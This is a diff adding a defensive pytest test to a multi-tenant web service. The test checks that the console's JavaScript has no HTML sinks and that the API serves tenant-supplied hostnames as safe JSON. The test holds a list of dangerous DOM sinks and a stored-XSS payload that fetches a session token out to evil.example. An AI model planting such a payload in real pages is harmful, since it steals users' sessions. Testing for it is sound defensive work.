@@ -455,3 +455,34 @@ def test_query_strings_repeated_or_long_are_read_once_and_bounded(make_tenant, a
         status, reply = caller.get(query)
         assert_error(status, reply, 400, field=field)
     _unchanged_but_rate_limits(before)
+
+
+# --- the console renders tenants' strings as text ------------------------------------------------------------------
+
+
+def test_the_console_puts_no_tenant_string_where_a_browser_would_run_or_follow_it(make_tenant, api):
+    """The attack (stored XSS aimed at the operator or the client): an agent's hostname, logical id and a replica's
+    tags are the tenant's own text, shown in the client's console and the operator's fleet pages; a hostname of
+    markup, and ids that would make a link ``javascript:``. Holds: the API answers them as JSON strings
+    (``application/json``, ``nosniff``, a deny-all CSP), and the console (Preact's ``html`` templates, which set
+    text and attributes, never HTML) has no HTML sink (``innerHTML`` and kin: test_console.py checks ``innerHTML``
+    alone), binds no data to ``src``, ``srcdoc``, ``formaction`` or ``style``, and every ``href`` it builds is a
+    ``#`` route of its own (a tenant's id can only change which page of the console it opens)."""
+    from pathlib import Path
+
+    code = {p.name: p.read_text() for p in (Path(__file__).resolve().parents[2] / "web" / "js").glob("*.js")}
+    for name, text in code.items():
+        for sink in ("outerHTML", "insertAdjacentHTML", "document.write", "DOMParser", "createContextualFragment",
+                     "dangerouslySetInnerHTML", "srcdoc", "javascript:"):
+            assert sink not in text, (name, sink)
+        assert re.findall(r"\b(?:src|formaction|style|xlink:href)=\$\{", text) == [], name
+        for target in re.findall(r"\bhref=\$\{(.{0,3})", text):
+            assert target.startswith("`#"), (name, target)
+    markup = '<img src=x onerror="fetch(`//evil.example/`+sessionStorage.getItem(`spot-optimizer-session`))">'
+    client_id, caller = make_tenant()
+    assert caller.post("/api/agents/register", registration(hostname=markup))[0] == 200
+    response = api.http.get(f"/api/client/{client_id}/agents", headers={"Authorization": f"Bearer {caller.token}"})
+    headers = {k.lower(): v for k, v in response.headers.items()}
+    assert headers["content-type"] == "application/json" and headers["x-content-type-options"] == "nosniff"
+    assert headers["content-security-policy"].startswith("default-src 'none'")
+    assert json.loads(response.body)["agents"][0]["hostname"] == markup
